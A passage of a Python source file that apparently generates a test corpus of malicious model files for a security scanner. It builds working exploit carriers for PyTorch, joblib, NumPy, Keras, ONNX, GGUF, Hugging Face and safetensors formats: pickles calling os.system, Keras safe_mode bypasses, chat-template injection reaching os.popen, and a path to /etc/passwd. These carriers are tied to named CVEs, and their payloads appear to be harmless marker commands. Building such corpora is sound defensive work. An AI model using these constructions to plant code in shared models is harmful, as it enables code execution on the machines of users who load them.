    "tensor bytes live and scanners skip.",
    reference="payload hidden in a tensor-named member (issue 2)",
)
def _pickle_in_tensor(ctx: BuildContext) -> bytes:
    return box.torch_zip(_benign_state_pickle(), tensors={"0": _os_system(ctx)})


@malicious(
    "torch/legacy-tar",
    format="pytorch-tar",
    file="legacy_tar.pt",
    description="PyTorch's oldest format, a tar of sys_info/pickle/storages/tensors; the "
    "'storages' pickle (read first by torch.load) calls `os.system`.",
    reference="legacy PyTorch formats a scanner must model",
    loader="torch",
)
def _legacy_tar(ctx: BuildContext) -> bytes:
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return box.tar_bytes(
        [
            ("sys_info", sys_info),
            ("pickle", pickle.dumps({}, protocol=2)),
            ("storages", _os_system(ctx)),
            ("tensors", pickle.dumps(0, protocol=2)),
        ]
    )


_TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


@malicious(
    "torch/legacy-raw",
    format="pytorch-legacy",
    file="legacy_raw.pt",
    description="PyTorch's pre-1.6 format: magic, protocol and sys_info pickles, then the "
    "object pickle, which calls `os.system` (the payload is in the 4th pickle of the stream).",
    reference="legacy PyTorch formats a scanner must model",
    loader="torch",
)
def _legacy_raw(ctx: BuildContext) -> bytes:
    sys_info = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    header = b"".join(
        pickle.dumps(value, protocol=2) for value in (_TORCH_LEGACY_MAGIC, 1001, sys_info)
    )
    return header + _os_system(ctx) + pickle.dumps([], protocol=2)


# -- compressed and nested containers --------------------------------------------------------------


@malicious(
    "torch/7z-broken-pickle",
    format="7z",
    file="model.pt",
    description="A PyTorch-style folder packed as 7z, not zip, whose data.pkl runs `os.system` "
    "and then breaks.",
    reference="nullifAI (ReversingLabs, Feb 2025)",
    needs=("py7zr",),
)
def _sevenzip_broken(ctx: BuildContext) -> None:
    box.write_7z(
        ctx.path,
        [
            ("model/data.pkl", _broken_after_payload(ctx)),
            ("model/version", b"3\n"),
            ("model/data/0", _tensor_bytes()["0"]),
        ],
    )


@malicious(
    "nesting/zip-in-tar-gz-in-7z",
    format="7z",
    file="release.7z",
    description="A malicious PyTorch zip inside a .tar.gz inside a 7z archive.",
    reference="containers at any nesting depth (issue 2)",
    needs=("py7zr",),
)
def _deep_nesting(ctx: BuildContext) -> None:
    model = box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())
    bundle = box.tar_bytes([("release/pytorch_model.bin", model)], gzip=True)
    box.write_7z(ctx.path, [("bundle.tar.gz", bundle)])


@malicious(
    "compressed/gzip-pickle",
    format="gzip",
    file="model_gzip.joblib",
    description="A malicious pickle gzip-compressed, as joblib's compress='gzip' writes it.",
    reference="joblib compression (compressed containers, issue 2)",
    loader="joblib",
)
def _gzip_pickle(ctx: BuildContext) -> bytes:
    return gzip.compress(_os_system(ctx), mtime=0)


@malicious(
    "compressed/bz2-pickle",
    format="bz2",
    file="model_bz2.joblib",
    description="A malicious pickle bz2-compressed (joblib compress='bz2').",
    reference="joblib compression (compressed containers, issue 2)",
    loader="joblib",
)
def _bz2_pickle(ctx: BuildContext) -> bytes:
    return bz2.compress(_os_system(ctx))


@malicious(
    "compressed/xz-pickle",
    format="xz",
    file="model_xz.joblib",
    description="A malicious pickle xz-compressed (joblib compress='xz').",
    reference="joblib compression (compressed containers, issue 2)",
    loader="joblib",
)
def _xz_pickle(ctx: BuildContext) -> bytes:
    return lzma.compress(_os_system(ctx), format=lzma.FORMAT_XZ)


@malicious(
    "compressed/zlib-pickle",
    format="zlib",
    file="model_zlib.joblib",
    description="A malicious pickle zlib-compressed (joblib compress=3, its default codec).",
    reference="joblib compression (compressed containers, issue 2)",
    loader="joblib",
)
def _zlib_pickle(ctx: BuildContext) -> bytes:
    return zlib.compress(_os_system(ctx), 3)


@malicious(
    "joblib/payload-after-arrays",
    format="joblib",
    file="model_arrays.joblib",
    description="A joblib dump of a 64 KiB NumPy array followed by `os.system`: the payload "
    "opcodes come after the raw array bytes that joblib writes inside the pickle stream.",
    reference="joblib format: arrays inlined in the pickle (issue 2)",
    needs=("numpy", "joblib"),
    loader="joblib",
)
def _joblib_after_arrays(ctx: BuildContext) -> None:
    import joblib
    import numpy as np

    weights = np.linspace(-1.0, 1.0, 8192, dtype=np.float64)
    joblib.dump({"weights": weights, "bias": _Reducer(os.system, (ctx.shell_command(),))}, ctx.path)


# -- NumPy -----------------------------------------------------------------------------------------


@malicious(
    "numpy/npy-object-array",
    format="numpy",
    file="object_array.npy",
    description="A .npy of dtype object: its data is a pickle, here one calling `os.system`.",
    reference="NumPy object arrays (issue 2); modelscan NumpyUnsafeOpScan",
    loader="numpy",
)
def _npy_object(ctx: BuildContext) -> bytes:
    return box.npy_bytes("|O", (1,), _os_system(ctx))


@malicious(
    "numpy/npy-v3-header",
    format="numpy",
    file="object_array_v3.npy",
    description="An object-dtype .npy in format version 3.0 (4-byte header length, UTF-8 "
    "header) carrying the payload.",
    reference="NumPy .npy header versions 1.0-3.0 (numpy.lib.format)",
    loader="numpy",
)
def _npy_v3(ctx: BuildContext) -> bytes:
    return box.npy_bytes("|O", (1,), _os_system(ctx), version=3)


@malicious(
    "numpy/npz-object-member",
    format="npz",
    file="arrays.npz",
    description="An .npz whose first member is a plain float array and whose second is an "
    "object array carrying the payload.",
    reference="NumPy .npz members (issue 2)",
    loader="npz",
)
def _npz_object(ctx: BuildContext) -> bytes:
    floats = box.npy_bytes("<f4", (4,), _tensor_bytes()["0"])
    return box.zip_bytes(
        [("weights.npy", floats), ("extra.npy", box.npy_bytes("|O", (1,), _os_system(ctx)))]
    )


# -- Keras -----------------------------------------------------------------------------------------


def _keras2_lambda_layer(ctx: BuildContext) -> dict[str, Any]:
    # Keras 2 stores a Lambda's function as base64 (with newlines) of its marshalled code.
    encoded = codecs.encode(marshal.dumps(_lambda_code(ctx)), "base64").decode("ascii")
    return {
        "class_name": "Lambda",
        "config": {
            "name": "preprocess",
            "trainable": True,
            "dtype": "float32",
            "function": [encoded, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def _dense_layer(name: str, units: int) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": name, "units": units, "activation": "relu", "use_bias": True},
        "registered_name": None,
    }


@malicious(
    "keras/h5-lambda",
    format="keras-h5",
    file="lambda_model.h5",
    description="A Keras HDF5 model whose model_config has a Lambda layer carrying marshalled "
    "bytecode (runs when Keras rebuilds the model; .h5 loads ignore safe_mode).",
    reference="CVE-2025-9905; modelscan H5LambdaDetectScan",
    rules=("keras.",),
    needs=("h5py",),
)
def _keras_h5_lambda(ctx: BuildContext) -> None:
    import h5py

    config = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32"},
                },
                _keras2_lambda_layer(ctx),
                {"class_name": "Dense", "config": {"name": "dense", "units": 2}},
            ],
        },
    }
    with h5py.File(ctx.path, "w") as handle:
        handle.attrs["keras_version"] = "2.15.0"
        handle.attrs["backend"] = "tensorflow"
        handle.attrs["model_config"] = json.dumps(config)
        weights = handle.create_group("model_weights")
        weights.attrs["layer_names"] = [b"preprocess", b"dense"]


def _keras3_archive(config: dict[str, Any]) -> bytes:
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return box.zip_bytes(
        [
            ("metadata.json", json.dumps(metadata).encode()),
            ("config.json", json.dumps(config, indent=1).encode()),
        ]
    )


def _keras3_lambda_layer(ctx: BuildContext) -> dict[str, Any]:
    encoded = base64.b64encode(marshal.dumps(_lambda_code(ctx))).decode("ascii")
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "preprocess",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": encoded, "defaults": None, "closure": None},
            },
            "arguments": {},
            "output_shape": None,
        },
        "registered_name": None,
    }


def _keras3_sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    input_layer = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [input_layer, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


@malicious(
    "keras/v3-lambda",
    format="keras-v3",
    file="lambda_model.keras",
    description="A Keras 3 .keras archive whose config.json has a Lambda layer with marshalled "
    "bytecode.",
    reference="modelscan KerasLambdaDetectScan; CVE-2025-8747 (safe_mode bypasses)",
    rules=("keras.",),
)
def _keras3_lambda(ctx: BuildContext) -> bytes:
    return _keras3_archive(_keras3_sequential([_keras3_lambda_layer(ctx), _dense_layer("d", 2)]))


@malicious(
    "keras/v3-arbitrary-module",
    format="keras-v3",
    file="arbitrary_module.keras",
    description="config.json names module 'subprocess', function 'run' as a layer of a "
    "functional model, called with ['touch', marker] as its inbound arguments.",
    reference="CVE-2025-1550 (GHSA-48g7-3x6r-xfhp)",
    rules=("keras.",),
)
def _keras3_arbitrary_module(ctx: BuildContext) -> bytes:
    runner = {
        "module": "subprocess",
        "class_name": "function",
        "config": "run",
        "registered_name": "run",
        "name": "run",
        "inbound_nodes": [{"args": [["touch", str(ctx.marker)]], "kwargs": {}}],
    }
    config = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {"name": "model", "layers": [runner], "input_layers": [], "output_layers": []},
        "registered_name": "Functional",
    }
    return _keras3_archive(config)


@malicious(
    "keras/enable-unsafe-deserialization",
    format="keras-v3",
    file="unsafe_deserialization.keras",
    description="config.json first calls keras.config.enable_unsafe_deserialization(), then a "
    "Lambda layer's bytecode runs despite safe_mode.",
    reference="CVE-2025-9906",
    rules=("keras.",),
)
def _keras3_unsafe(ctx: BuildContext) -> bytes:
    unlock = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "enable_unsafe_deserialization",
    }
    return _keras3_archive(_keras3_sequential([unlock, _keras3_lambda_layer(ctx)]))


# -- ONNX, GGUF, Hugging Face folders, safetensors -------------------------------------------------


def _onnx_model(*, external: str | None = None, domain: str | None = None) -> bytes:
    from onnx import TensorProto, helper

    weight = helper.make_tensor("W", TensorProto.FLOAT, [4, 2], [0.1] * 8)
    if external is not None:
        weight.ClearField("float_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", external), ("offset", "0"), ("length", "32")):
            entry = weight.external_data.add()
            entry.key = key
            entry.value = value
    op_domain = domain or ""
    node = helper.make_node(
        "MatMul" if domain is None else "RunShell", ["X", "W"], ["Y"], domain=op_domain
    )
    graph = helper.make_graph(
        [node],
        "corpus",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        initializer=[weight],
    )
    opsets = [helper.make_opsetid("", 17)]
    if domain is not None:
        opsets.append(helper.make_opsetid(domain, 1))
    model = helper.make_model(graph, opset_imports=opsets, producer_name="corpus")
    data: bytes = model.SerializeToString()
    return data


@malicious(
    "onnx/external-data-traversal",
    format="onnx",
    file="external_traversal.onnx",
    description="An initializer whose external data lives at '../../../etc/passwd': loading "
    "reads a file outside the model folder.",
    reference="ONNX external-data paths that leave the model folder (issue 2)",
    rules=("onnx.",),
    needs=("onnx",),
)
def _onnx_external(ctx: BuildContext) -> bytes:
    return _onnx_model(external="../../../etc/passwd")


@malicious(
    "onnx/custom-op-domain",
    format="onnx",
    file="custom_domain.onnx",
    description="A node 'RunShell' from domain 'com.attacker.ops': it only runs if a custom-op "
    "library is registered, so it needs review rather than blocking.",
    reference="non-standard ONNX operator domains (issue 2)",
    rules=("onnx.",),
    min_severity=Severity.MEDIUM,
    needs=("onnx",),
)
def _onnx_domain(ctx: BuildContext) -> bytes:
    return _onnx_model(domain="com.attacker.ops")


@malicious(
    "gguf/chat-template-ssti",
    format="gguf",
    file="model.gguf",
    description="tokenizer.chat_template climbs from () to `os.popen('touch ...')`: runs when "
    "a loader renders it with a non-sandboxed Jinja environment.",
    reference="CVE-2024-34359 (llama-cpp-python)",
    rules=("template.", "gguf."),
)
def _gguf_ssti(ctx: BuildContext) -> bytes:
    return box.gguf_bytes(
        {
            "general.architecture": "llama",
            "general.name": "tiny-chat",
            "general.alignment": 32,
            "tokenizer.chat_template": _ssti_template(ctx),
        }
    )


def _write_json(path: Path, data: dict[str, Any]) -> None:
    path.write_text(json.dumps(data, indent=2) + "\n", encoding="utf-8")


def _small_safetensors() -> bytes:
    header = {"weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
    return box.safetensors_bytes(header, _tensor_bytes()["0"])


@malicious(
    "hf/tokenizer-config-ssti",
    format="folder",
    file="hf_tokenizer_ssti",
    description="A Hugging Face folder whose tokenizer_config.json chat_template reaches "
    "`os.popen`.",
    reference="CVE-2024-34359 pattern in tokenizer_config.json",
    rules=("template.", "hf."),
)
def _hf_tokenizer_ssti(ctx: BuildContext) -> None:
    ctx.path.mkdir(parents=True, exist_ok=True)
    _write_json(ctx.path / "config.json", {"model_type": "llama", "architectures": ["Llama"]})
    _write_json(
        ctx.path / "tokenizer_config.json",
        {"tokenizer_class": "LlamaTokenizer", "chat_template": _ssti_template(ctx)},
    )
    (ctx.path / "model.safetensors").write_bytes(_small_safetensors())


@malicious(
    "hf/auto-map-remote-code",
    format="folder",
    file="hf_remote_code",
    description="A Hugging Face folder whose config.json auto_map points at modeling_tiny.py, "
    "which calls os.system at import (runs with trust_remote_code=True).",
    reference="Hugging Face remote code (trust_remote_code)",
    rules=("hf.",),
)
def _hf_remote_code(ctx: BuildContext) -> None:
    ctx.path.mkdir(parents=True, exist_ok=True)
    _write_json(
        ctx.path / "config.json",
        {
            "model_type": "tiny",
            "architectures": ["TinyModel"],
            "auto_map": {"AutoModel": "modeling_tiny.TinyModel"},
        },
    )
    source = (
        '"""Tiny model."""\n'
        "import os\n\n"
        f"os.system({ctx.shell_command()!r})\n\n\n"
        "class TinyModel:\n"
        "    pass\n"
    )
    (ctx.path / "modeling_tiny.py").write_text(source, encoding="utf-8")
    (ctx.path / "model.safetensors").write_bytes(_small_safetensors())


@malicious(
    "safetensors/pickle-appended",
    format="safetensors",
    file="polyglot.safetensors",
    description="A valid safetensors file with a pickle calling `os.system` appended after the "
    "tensor data (a safetensors/pickle polyglot).",
    reference="safetensors header validity (issue 2); polyglots (fickling)",
    rules=("safetensors.", "pickle."),
)
def _safetensors_appended(ctx: BuildContext) -> bytes:
    return _small_safetensors() + _os_system(ctx)


@malicious(
    "safetensors/overlapping-offsets",
    format="safetensors",
    file="overlap.safetensors",
    description="Two tensors whose data_offsets overlap: the header does not describe the data "
    "honestly.",
    reference="safetensors header validity: offsets, overlaps, sizes (issue 2)",
    rules=("safetensors.",),
)
def _safetensors_overlap(ctx: BuildContext) -> bytes:
    header = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }
    return box.safetensors_bytes(header, bytes(24))
